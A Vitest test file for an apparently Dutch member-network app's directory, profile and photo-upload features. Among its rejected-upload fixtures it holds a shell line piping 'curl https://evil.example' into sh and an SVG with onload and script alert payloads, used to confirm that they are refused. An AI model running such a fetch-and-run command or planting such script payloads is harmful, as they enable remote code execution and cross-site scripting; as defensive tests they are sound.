import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { DB } from '../../db';
import { seedDemo } from '../../db/seed/demo';
import { seedDemoNetworks } from '../../db/seed/demo-networks';
import { demoProfiles, seedDemoProfiles } from '../../db/seed/demo-profiles';
import { seedReference } from '../../db/seed/reference';
import { createAuth } from '../../platform/auth';
import { ensureAuthSecret } from '../../platform/secrets';
import { DIALECTS, migratedDatabase, type TestDatabase } from '../../testing/db';
import { addNetworkMember, buildMember, buildNetwork } from '../../testing/factories';
import { pngClaiming } from '../../testing/images';
import { deleteOwnAccount } from '../accounts/delete-account';
import { deleteMember, suspendMember } from '../member-admin/mutations';
import { type Viewer, VISITOR } from '../viewer';
import { removePhoto, touchLastActive, updateProfile } from './mutations';
import { PHOTO_MAX_BYTES } from './photo';
import { searchDirectory, suggestionsFor } from './find';
import { CHECK_MS, directoryIndex, invalidateDirectory } from './index-cache';
import { memberProfile, ownPhoto, ownProfile, photoOfMember } from './queries';
import { directoryFromPage, profileSchema } from './schema';

const viewerOf = (user: { id: string; role: 'member' | 'editor' | 'admin' }): Viewer => ({
	kind: 'member',
	userId: user.id,
	role: user.role
});

describe.each(DIALECTS)('people on %s', (dialect) => {
	let handle: TestDatabase;
	let photos: string;

	afterEach(async () => {
		await handle?.destroy();
		if (photos) fs.rmSync(photos, { recursive: true, force: true });
	});

	async function setup() {
		handle = await migratedDatabase(dialect);
		await seedReference(handle.db);
		photos = fs.mkdtempSync(path.join(os.tmpdir(), 'kn-photos-'));
		return handle.db;
	}

	async function profile(
		db: DB,
		id: string,
		fields: Partial<{
			job_title: string;
			field_role_id: string;
			ask_me_about: string;
			looking_for: string;
			show_email: boolean;
			last_active_at: string | null;
		}>
	) {
		await db.updateTable('users').set(fields).where('id', '=', id).execute();
	}

	/** The directory as the page asks it, by URL parameters (after the test's own changes). */
	async function directory(db: DB, viewer: Viewer, params: Record<string, string> = {}) {
		invalidateDirectory(db);
		return searchDirectory(db, directoryFromPage(new URLSearchParams(params)), viewer);
	}

	async function suggest(db: DB, subjectId: string) {
		invalidateDirectory(db);
		return suggestionsFor(db, subjectId);
	}

	const names = (result: { members: { name: string }[] }) => result.members.map((m) => m.name);
	const counts = (options: { label: string; count: number }[]) =>
		Object.fromEntries(options.filter((o) => o.count > 0).map((o) => [o.label, o.count]));

	/** Six active members in four provinces, an applicant and a suspended member. */
	async function people(db: DB) {
		const anke = await buildMember(db, {
			name: 'Anke Veldman',
			province: 'NL-GR',
			organisationSlug: 'gemeente-groningen',
			themes: ['Circulaire economie', 'Digitalisering']
		});
		const bram = await buildMember(db, {
			name: 'bram de Boer',
			province: 'NL-GR',
			organisationSlug: 'provincie-groningen',
			themes: ['Circulaire economie']
		});
		const cor = await buildMember(db, {
			name: 'Cor Zwolsman',
			province: 'NL-OV',
			organisationSlug: 'gemeente-zwolle',
			themes: ['Digitalisering', 'Financiering']
		});
		const dina = await buildMember(db, {
			name: 'Dina Kaya',
			province: 'NL-ZH',
			organisationSlug: 'gemeente-rotterdam',
			themes: ['Circulaire economie', 'Human capital']
		});
		const eef = await buildMember(db, {
			name: 'Eef Smit',
			province: 'NL-ZH',
			organisationSlug: 'provincie-zuid-holland',
			themes: []
		});
		const fleur = await buildMember(db, {
			name: 'Fleur Admin',
			province: 'NL-UT',
			role: 'admin',
			themes: ['Financiering']
		});
		await buildMember(db, {
			name: 'Gerrit Aanmelder',
			province: 'NL-GR',
			status: 'applicant',
			organisationSlug: 'gemeente-groningen',
			themes: ['Circulaire economie']
		});
		await buildMember(db, {
			name: 'Hanna Geschorst',
			province: 'NL-GR',
			status: 'suspended',
			organisationSlug: 'gemeente-groningen',
			themes: ['Circulaire economie']
		});
		await profile(db, anke.id, {
			job_title: 'Accountmanager bedrijven',
			field_role_id: 'accountmanager-bedrijven'
		});
		await profile(db, cor.id, {
			field_role_id: 'accountmanager-bedrijven',
			ask_me_about: 'Regionaal accountmanagement, bedrijfsbezoeken'
		});
		await profile(db, dina.id, { field_role_id: 'programmamanager' });
		return { anke, bram, cor, dina, eef, fleur };
	}

	it('filters by every filter, combined, and counts each option with the other filters', async () => {
		const db = await setup();
		const { anke, cor } = await people(db);
		const viewer = viewerOf(anke);

		const all = await directory(db, viewer);
		// Applicants and suspended accounts never appear.
		expect(all.total).toBe(6);
		expect(names(all)).not.toContain('Gerrit Aanmelder');
		expect(names(all)).not.toContain('Hanna Geschorst');
		expect(counts(all.facets.province)).toEqual({
			Groningen: 2,
			Overijssel: 1,
			'Zuid-Holland': 2,
			Utrecht: 1
		});
		expect(counts(all.facets.theme)).toEqual({
			'Circulaire economie': 3,
			Digitalisering: 2,
			Financiering: 2,
			'Human capital': 1
		});
		expect(counts(all.facets.organisationType)).toEqual({ Gemeente: 3, Provincie: 2 });
		expect(counts(all.facets.role)).toEqual({
			'Accountmanager bedrijven': 2,
			Programmamanager: 1
		});
		expect(all.facets.organisation.map((o) => [o.value, o.count])).toEqual([
			['gemeente-groningen', 1],
			['gemeente-rotterdam', 1],
			['gemeente-zwolle', 1],
			['provincie-groningen', 1],
			['provincie-zuid-holland', 1]
		]);

		// Theme and province together; the theme's counts keep the province, and vice versa.
		const both = await directory(db, viewer, { thema: 'circulaire-economie', provincie: 'NL-GR' });
		expect(names(both)).toEqual(['Anke Veldman', 'bram de Boer']);
		expect(counts(both.facets.theme)).toEqual({ 'Circulaire economie': 2, Digitalisering: 1 });
		expect(counts(both.facets.province)).toEqual({ Groningen: 2, 'Zuid-Holland': 1 });
		expect(both.facets.theme.find((o) => o.selected)?.value).toBe('circulaire-economie');
		expect(both.facets.province.find((o) => o.selected)?.value).toBe('NL-GR');

		expect(names(await directory(db, viewer, { organisatietype: 'gemeente' }))).toEqual([
			'Anke Veldman',
			'Cor Zwolsman',
			'Dina Kaya'
		]);
		expect(names(await directory(db, viewer, { organisatie: 'gemeente-zwolle' }))).toEqual([
			'Cor Zwolsman'
		]);
		expect(names(await directory(db, viewer, { rol: 'accountmanager-bedrijven' }))).toEqual([
			'Anke Veldman',
			'Cor Zwolsman'
		]);
		const none = await directory(db, viewer, {
			organisatie: 'gemeente-zwolle',
			thema: 'human-capital'
		});
		expect(none.total).toBe(0);
		// The chosen organisation stays an option, with its count under the other filters.
		expect(none.facets.organisation.find((o) => o.selected)).toMatchObject({
			value: 'gemeente-zwolle',
			count: 0
		});
		expect(counts(none.facets.theme)).toEqual({ Digitalisering: 1, Financiering: 1 });

		// Free text: every word in the name, job title, organisation, a theme or "vraag me over".
		expect(names(await directory(db, viewer, { q: 'zwol' }))).toEqual(['Cor Zwolsman']);
		expect(names(await directory(db, viewer, { q: 'circulaire' }))).toEqual([
			'Anke Veldman',
			'bram de Boer',
			'Dina Kaya'
		]);
		expect(names(await directory(db, viewer, { q: 'accountmanag' }))).toEqual([
			'Anke Veldman',
			'Cor Zwolsman'
		]);
		expect(names(await directory(db, viewer, { q: 'rotterdam capital' }))).toEqual(['Dina Kaya']);
		expect(names(await directory(db, viewer, { q: '50%' }))).toEqual([]);
		const text = await directory(db, viewer, { q: 'digitalisering', provincie: 'NL-OV' });
		expect(names(text)).toEqual(['Cor Zwolsman']);
		expect(counts(text.facets.province)).toEqual({ Groningen: 1, Overijssel: 1 });

		// Unknown values filter nothing, and are named (the API answers them with a 400).
		const stale = await directory(db, viewer, { provincie: 'NL-XX', thema: 'weg' });
		expect(stale.total).toBe(6);
		expect(stale.unknown).toEqual(['province', 'theme']);
		expect(cor.id).toBeTruthy();
	});

	it('filters by network, and a private network only for its own members', async () => {
		const db = await setup();
		const { anke, bram, cor, fleur } = await people(db);
		const open = await buildNetwork(db, { name: 'MKB-Deals Test' });
		const closed = await buildNetwork(db, { name: 'Geheim overleg', visibility: 'private' });
		await addNetworkMember(db, open.id, anke.id);
		await addNetworkMember(db, open.id, cor.id);
		await addNetworkMember(db, open.id, bram.id, { status: 'requested' });
		await addNetworkMember(db, closed.id, anke.id);
		await addNetworkMember(db, closed.id, cor.id);

		const outsider = viewerOf(bram);
		const byOpen = await directory(db, outsider, { netwerk: open.slug });
		expect(names(byOpen)).toEqual(['Anke Veldman', 'Cor Zwolsman']);
		expect(byOpen.facets.network.map((n) => n.label)).not.toContain('Geheim overleg');
		const byClosed = await directory(db, outsider, { netwerk: closed.slug });
		expect(byClosed.unknown).toEqual(['network']);
		expect(byClosed.total).toBe(6);

		const insider = await directory(db, viewerOf(anke), { netwerk: closed.slug });
		expect(names(insider)).toEqual(['Anke Veldman', 'Cor Zwolsman']);
		expect(counts(insider.facets.network)).toEqual({ 'MKB-Deals Test': 2, 'Geheim overleg': 2 });
		expect(names(await directory(db, viewerOf(fleur), { netwerk: closed.slug }))).toHaveLength(2);
	});

	it('sorts by name or by recent activity, and pages through the results', async () => {
		const db = await setup();
		const { anke, bram, cor, dina } = await people(db);
		await profile(db, dina.id, { last_active_at: '2026-11-28T09:00:00.000Z' });
		await profile(db, bram.id, { last_active_at: '2026-11-29T09:00:00.000Z' });
		await profile(db, cor.id, { last_active_at: '2026-11-01T09:00:00.000Z' });

		// By name, whatever the case of the first letter.
		expect(names(await directory(db, viewerOf(anke)))).toEqual([
			'Anke Veldman',
			'bram de Boer',
			'Cor Zwolsman',
			'Dina Kaya',
			'Eef Smit',
			'Fleur Admin'
		]);
		// Recently active first; never active last, by name.
		expect(names(await directory(db, viewerOf(anke), { sorteer: 'actief' }))).toEqual([
			'bram de Boer',
			'Dina Kaya',
			'Cor Zwolsman',
			'Anke Veldman',
			'Eef Smit',
			'Fleur Admin'
		]);

		for (let i = 0; i < 19; i++) {
			await buildMember(db, { name: `Zz Lid ${String(i).padStart(2, '0')}`, province: 'NL-LI' });
		}
		const first = await directory(db, viewerOf(anke));
		expect(first).toMatchObject({ total: 25, page: 1, pageCount: 2 });
		expect(first.members).toHaveLength(20);
		const second = await directory(db, viewerOf(anke), { pagina: '2' });
		expect(names(second)).toEqual([
			'Zz Lid 14',
			'Zz Lid 15',
			'Zz Lid 16',
			'Zz Lid 17',
			'Zz Lid 18'
		]);
		// Past the end: the last page.
		expect((await directory(db, viewerOf(anke), { pagina: '99' })).page).toBe(2);
		const filteredPage = await directory(db, viewerOf(anke), { provincie: 'NL-LI', pagina: '1' });
		expect(filteredPage).toMatchObject({ total: 19, pageCount: 1 });
	});

	it('keeps the index fresh, and never shows a member who was suspended meanwhile', async () => {
		const db = await setup();
		const { anke, cor, fleur } = await people(db);
		const request = directoryFromPage(new URLSearchParams('q=zwolsman'));
		expect(names(await directory(db, viewerOf(anke), { q: 'zwolsman' }))).toEqual(['Cor Zwolsman']);
		const before = await directoryIndex(db);

		// Suspended by an admin (as if in another process): the page leaves Cor out at once...
		await suspendMember(db, { actorId: fleur.id, userId: cor.id, reason: 'Een test.' });
		expect(names(await searchDirectory(db, request, viewerOf(anke)))).toEqual([]);
		// ...and the index sees the change at its next check, without anyone waiting for it.
		expect(await directoryIndex(db, Date.now() + CHECK_MS)).toBe(before);
		await vi.waitFor(async () =>
			expect((await directoryIndex(db)).version).toBeGreaterThan(before.version)
		);
		expect((await searchDirectory(db, request, viewerOf(anke))).total).toBe(0);
		expect(await suggestionsFor(db, cor.id)).toEqual([]);
	});

	it('suggests up to five members in other provinces by a score with reasons, the same way each time', async () => {
		const db = await setup();
		const { anke, bram, cor, dina, eef, fleur } = await people(db);
		const mkb = await buildNetwork(db, { name: 'MKB-Deals Test' });
		const secret = await buildNetwork(db, { name: 'Geheim overleg', visibility: 'private' });
		for (const m of [anke, cor, dina]) await addNetworkMember(db, mkb.id, m.id);
		for (const m of [anke, eef]) await addNetworkMember(db, secret.id, m.id);
		await profile(db, anke.id, {
			looking_for: 'Tips voor regionaal accountmanagement en bezoeken'
		});
		await profile(db, dina.id, { last_active_at: '2026-11-20T10:00:00.000Z' });
		// Two more candidates with one theme in common, to fill the five.
		const gijs = await buildMember(db, {
			name: 'Gijs Hoek',
			province: 'NL-LI',
			themes: ['Digitalisering']
		});
		const ilse = await buildMember(db, {
			name: 'Ilse Dekker',
			province: 'NL-FR',
			themes: ['Circulaire economie']
		});
		await buildMember(db, { name: 'Jan Niets', province: 'NL-NB', themes: ['Verduurzaming'] });

		const suggestions = await suggest(db, anke.id);
		// Cor: Digitalisering (3) + "Regionaal accountmanagement" and "bedrijfsbezoeken" for
		// "accountmanagement" and "bezoeken" (2 × 4) + MKB-Deals (1) = 12
		// Dina: Circulaire economie (3) + MKB-Deals (1) = 4
		// Gijs, Ilse: one theme (3), never active: by id. Bram lives in Groningen too; Eef shares
		// only a private network, which never counts; Jan and Fleur share nothing.
		expect(suggestions.map((s) => [s.name, s.score])).toEqual([
			['Cor Zwolsman', 12],
			['Dina Kaya', 4],
			...[gijs, ilse]
				.sort((a, b) => (a.id < b.id ? -1 : 1))
				.map((m) => [m.name, 3] as [string, number])
		]);
		expect(suggestions[0]!.reasons).toEqual([
			{ kind: 'themes', names: ['Digitalisering'] },
			{ kind: 'helps_with', topics: ['regionaal accountmanagement', 'bedrijfsbezoeken'] },
			{ kind: 'networks', names: ['MKB-Deals Test'] }
		]);
		expect(suggestions.map((s) => s.name)).not.toContain(bram.name);
		expect(suggestions.map((s) => s.name)).not.toContain(eef.name);
		expect(suggestions.map((s) => s.name)).not.toContain(fleur.name);
		expect(await suggest(db, anke.id)).toEqual(suggestions);

		// At most five, and applicants or suspended members never.
		for (let i = 0; i < 4; i++) {
			await buildMember(db, {
				name: `Extra ${i}`,
				province: 'NL-NB',
				themes: ['Circulaire economie']
			});
		}
		await buildMember(db, {
			name: 'Karel Aanmelder',
			province: 'NL-NB',
			status: 'applicant',
			themes: ['Circulaire economie', 'Digitalisering']
		});
		await buildMember(db, {
			name: 'Lies Geschorst',
			province: 'NL-NB',
			status: 'suspended',
			themes: ['Circulaire economie', 'Digitalisering']
		});
		const five = await suggest(db, anke.id);
		expect(five).toHaveLength(5);
		expect(five.slice(0, 2).map((s) => s.name)).toEqual(['Cor Zwolsman', 'Dina Kaya']);
		expect(five.map((s) => s.name)).not.toContain('Karel Aanmelder');
		expect(five.map((s) => s.name)).not.toContain('Lies Geschorst');
		for (const s of five) expect(s.province).not.toBe('Groningen');
		// Nothing for someone who is not an active member.
		expect(await suggest(db, 'bestaat-niet')).toEqual([]);
	});

	it('shows a profile to members only as they may see it', async () => {
		const db = await setup();
		const { anke, cor, fleur } = await people(db);
		const applicant = await buildMember(db, { status: 'applicant' });
		const suspended = await buildMember(db, { status: 'suspended' });
		const open = await buildNetwork(db, { name: 'Open netwerk' });
		const secret = await buildNetwork(db, { name: 'Geheim overleg', visibility: 'private' });
		await addNetworkMember(db, open.id, cor.id);
		await addNetworkMember(db, secret.id, cor.id, { role: 'coordinator' });

		for (const id of [applicant.id, suspended.id, 'bestaat-niet']) {
			expect(await memberProfile(db, id, viewerOf(anke)), id).toBeUndefined();
		}
		const seen = await memberProfile(db, cor.id, viewerOf(anke));
		expect(seen).toMatchObject({
			name: 'Cor Zwolsman',
			email: null,
			isSelf: false,
			askMeAbout: 'Regionaal accountmanagement, bedrijfsbezoeken',
			organisation: { slug: 'gemeente-zwolle', name: 'Gemeente Zwolle', type: 'Gemeente' },
			province: { code: 'NL-OV', name: 'Overijssel' },
			fieldRole: 'Accountmanager bedrijven',
			themes: [
				{ id: 'digitalisering', name: 'Digitalisering' },
				{ id: 'financiering', name: 'Financiering' }
			]
		});
		// The private network only to its members (Cor himself) and admins.
		expect(seen?.networks.map((n) => n.name)).toEqual(['Open netwerk']);
		expect((await memberProfile(db, cor.id, viewerOf(cor)))?.networks.map((n) => n.name)).toEqual([
			'Open netwerk',
			'Geheim overleg'
		]);
		expect((await memberProfile(db, cor.id, viewerOf(fleur)))?.networks).toHaveLength(2);
		// (Visitors never reach a profile; the network rules alone would show them public ones.)
		expect((await memberProfile(db, cor.id, VISITOR))?.networks.map((n) => n.name)).toEqual([
			'Open netwerk'
		]);

		// The e-mail address only when the member chooses to show it.
		await profile(db, cor.id, { show_email: true });
		expect((await memberProfile(db, cor.id, viewerOf(anke)))?.email).toBe(cor.email);
		const listed = await directory(db, viewerOf(anke), { q: 'zwolsman' });
		expect(listed.members[0]?.email).toBe(cor.email);
		expect((await directory(db, viewerOf(anke), { q: 'veldman' })).members[0]?.email).toBeNull();
	});

	const input = (overrides: Record<string, unknown> = {}) =>
		profileSchema.parse({
			name: 'Anke Veldman-Bos',
			jobTitle: 'Senior accountmanager',
			organisation: '',
			fieldRole: 'programmamanager',
			province: 'NL-FR',
			themes: ['human-capital', 'financiering'],
			askMeAbout: 'Leerwerktrajecten',
			lookingFor: 'Krapte op de arbeidsmarkt',
			bio: 'Twintig jaar bij de gemeente.',
			showEmail: true,
			...overrides
		});
	const files = () => fs.readdirSync(photos);

	it('saves a profile at once, all or nothing', async () => {
		const db = await setup();
		const { anke } = await people(db);
		const before = await ownProfile(db, anke.id);

		const refused = await updateProfile(db, {
			userId: anke.id,
			profile: input({ themes: ['human-capital', 'bestaat-niet'], fieldRole: 'nee' }),
			photo: null,
			photosDir: photos
		});
		expect(refused).toEqual({
			ok: false,
			reason: 'unknown_reference',
			fields: ['fieldRole', 'themes']
		});
		expect(await ownProfile(db, anke.id)).toEqual(before);

		expect(
			await updateProfile(db, { userId: anke.id, profile: input(), photo: null, photosDir: photos })
		).toEqual({ ok: true });
		expect(await ownProfile(db, anke.id)).toMatchObject({
			name: 'Anke Veldman-Bos',
			jobTitle: 'Senior accountmanager',
			organisation: '',
			fieldRole: 'programmamanager',
			province: 'NL-FR',
			askMeAbout: 'Leerwerktrajecten',
			lookingFor: 'Krapte op de arbeidsmarkt',
			bio: 'Twintig jaar bij de gemeente.',
			showEmail: true,
			photo: null
		});
		expect((await ownProfile(db, anke.id))?.themes.sort()).toEqual([
			'financiering',
			'human-capital'
		]);
		const seen = await memberProfile(db, anke.id, VISITOR);
		expect(seen?.email).toBe(anke.email);
		expect(seen?.province?.name).toBe('Fryslân');
	});

	it('refuses fake, dangerous, huge and oversized photos and stores nothing', async () => {
		const db = await setup();
		const { anke } = await people(db);
		const before = await ownProfile(db, anke.id);
		const svg = Buffer.from(
			'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
		);
		const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
		const tooLarge = Buffer.alloc(PHOTO_MAX_BYTES + 10);
		tooLarge.set([0xff, 0xd8, 0xff, 0xe0]);
		for (const [photo, reason] of [
			[script, 'photo_type'],
			[svg, 'photo_type'],
			[await pngClaiming(50_000, 50_000), 'photo_too_many_pixels'],
			[tooLarge, 'photo_too_large']
		] as const) {
			const result = await updateProfile(db, {
				userId: anke.id,
				profile: input(),
				photo: photo,
				photosDir: photos
			});
			expect(result, reason).toEqual({ ok: false, reason });
		}
		expect(await ownProfile(db, anke.id)).toEqual(before);
		expect(files()).toEqual([]);
	});

	it('stores a photo without its EXIF data, replaces it, removes it, and erases it with the account', async () => {
		const db = await setup();
		const { anke, cor, fleur } = await people(db);
		const jpeg = await sharp({
			create: { width: 900, height: 600, channels: 3, background: '#17555e' }
		})
			.jpeg()
			.withMetadata({
				exif: { IFD0: { Copyright: 'Anke', ImageDescription: 'Thuis, Zernikelaan 1' } }
			})
			.toBuffer();
		expect(
			await updateProfile(db, { userId: anke.id, profile: input(), photo: jpeg, photosDir: photos })
		).toEqual({ ok: true });
		const first = (await ownProfile(db, anke.id))!.photo!;
		expect(files()).toEqual([first]);
		const stored = fs.readFileSync(path.join(photos, first));
		const meta = await sharp(stored).metadata();
		expect(meta).toMatchObject({ format: 'webp', width: 400, height: 400 });
		expect(meta.exif).toBeUndefined();
		expect(stored.includes(Buffer.from('Zernikelaan'))).toBe(false);

		// A new photo replaces the old one and its file.
		const png = await sharp({
			create: { width: 300, height: 500, channels: 4, background: '#fff' }
		})
			.png()
			.toBuffer();
		await updateProfile(db, { userId: anke.id, profile: input(), photo: png, photosDir: photos });
		const second = (await ownProfile(db, anke.id))!.photo!;
		expect(second).not.toBe(first);
		expect(files()).toEqual([second]);
		// Saving without a photo keeps it.
		await updateProfile(db, { userId: anke.id, profile: input(), photo: null, photosDir: photos });
		expect((await ownProfile(db, anke.id))!.photo).toBe(second);

		expect(await removePhoto(db, { userId: anke.id, photosDir: photos })).toEqual({
			removed: true
		});
		expect((await ownProfile(db, anke.id))!.photo).toBeNull();
		expect(files()).toEqual([]);
		expect(await removePhoto(db, { userId: anke.id, photosDir: photos })).toEqual({
			removed: false
		});

		// Applicants may add a photo; only they see it until they are approved.
		const applicant = await buildMember(db, { status: 'applicant' });
		await updateProfile(db, {
			userId: applicant.id,
			profile: input(),
			photo: png,
			photosDir: photos
		});
		expect(await ownPhoto(db, applicant.id)).toMatch(/\.webp$/);
		expect(await photoOfMember(db, applicant.id)).toBeUndefined();
		await removePhoto(db, { userId: applicant.id, photosDir: photos });

		// An admin deletes an account: its photo goes too.
		await updateProfile(db, { userId: cor.id, profile: input(), photo: png, photosDir: photos });
		expect(files()).toHaveLength(1);
		expect(
			await deleteMember(db, {
				actorId: fleur.id,
				userId: cor.id,
				removeContributions: false,
				photosDir: photos
			})
		).toMatchObject({ ok: true });
		expect(files()).toEqual([]);
	});

	it('erases the photo when members delete their own account', async () => {
		const db = await setup();
		const origin = 'http://localhost:3000';
		const auth = createAuth({
			db,
			dialect,
			config: { origin, https: false },
			secret: await ensureAuthSecret(db, undefined),
			limits: { idleSeconds: 3600, absoluteSeconds: 86400 }
		});
		const person = {
			name: 'Mira Foto',
			email: 'mira@zwolle.example',
			password: 'lijnbaan-Zwolle-peperbus-44'
		};
		await auth.api.signUpEmail({ body: person, headers: new Headers({ origin }) });
		const { id } = await db
			.selectFrom('users')
			.select('id')
			.where('email', '=', person.email)
			.executeTakeFirstOrThrow();
		await db
			.updateTable('users')
			.set({ status: 'active', email_verified: true })
			.where('id', '=', id)
			.execute();
		const png = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } })
			.png()
			.toBuffer();
		await updateProfile(db, { userId: id, profile: input(), photo: png, photosDir: photos });
		expect(files()).toHaveLength(1);
		const result = await deleteOwnAccount(
			{ db, auth, client: '192.0.2.7', photosDir: photos },
			{ userId: id, password: person.password, removeContributions: false }
		);
		expect(result).toEqual({ ok: true });
		expect(files()).toEqual([]);
	});

	it('gives every demo member a profile once, never over an edited one, and suggestions', async () => {
		const db = await setup();
		await seedDemo(db, { password: 'demo-wachtwoord-2026' });
		await seedDemoNetworks(db);
		expect(await seedDemoProfiles(db)).toBe(demoProfiles().length);
		const demo = await db
			.selectFrom('users')
			.select(['id', 'email', 'bio', 'ask_me_about', 'looking_for', 'province_code'])
			.where('is_demo', '=', true)
			.execute();
		expect(demo).toHaveLength(demoProfiles().length);
		for (const person of demo) {
			expect(person.bio, person.email).toBeTruthy();
			expect(person.ask_me_about, person.email).toBeTruthy();
			expect(person.looking_for, person.email).toBeTruthy();
			expect(person.province_code, person.email).toBeTruthy();
		}
		const daan = demo.find((p) => p.email === 'demo-member15@example.org')!;
		await db
			.updateTable('users')
			.set({ bio: 'Mijn eigen tekst.' })
			.where('id', '=', daan.id)
			.execute();
		expect(await seedDemoProfiles(db)).toBe(0);
		expect((await ownProfile(db, daan.id))?.bio).toBe('Mijn eigen tekst.');

		// Everyone in the demo has colleagues elsewhere to meet.
		for (const person of demo) {
			const suggestions = await suggest(db, person.id);
			expect(suggestions.length, person.email).toBeGreaterThan(0);
		}
		const forDaan = await suggest(db, daan.id);
		expect(forDaan[0]).toMatchObject({
			name: 'Lotte Smit',
			reasons: expect.arrayContaining([{ kind: 'helps_with', topics: ['exportbegeleiding'] }])
		});
	});

	it('notes activity at most once an hour', async () => {
		const db = await setup();
		const { anke } = await people(db);
		const at = new Date('2026-11-29T10:00:00.000Z');
		const lastActive = async () =>
			(
				await db
					.selectFrom('users')
					.select('last_active_at')
					.where('id', '=', anke.id)
					.executeTakeFirstOrThrow()
			).last_active_at;
		expect(await touchLastActive(db, anke.id, at)).toBe(true);
		expect(await lastActive()).toBe('2026-11-29T10:00:00.000Z');
		expect(await touchLastActive(db, anke.id, new Date('2026-11-29T10:59:00.000Z'))).toBe(false);
		expect(await lastActive()).toBe('2026-11-29T10:00:00.000Z');
		expect(await touchLastActive(db, anke.id, new Date('2026-11-29T11:00:01.000Z'))).toBe(true);
		expect(await lastActive()).toBe('2026-11-29T11:00:01.000Z');
	});
});
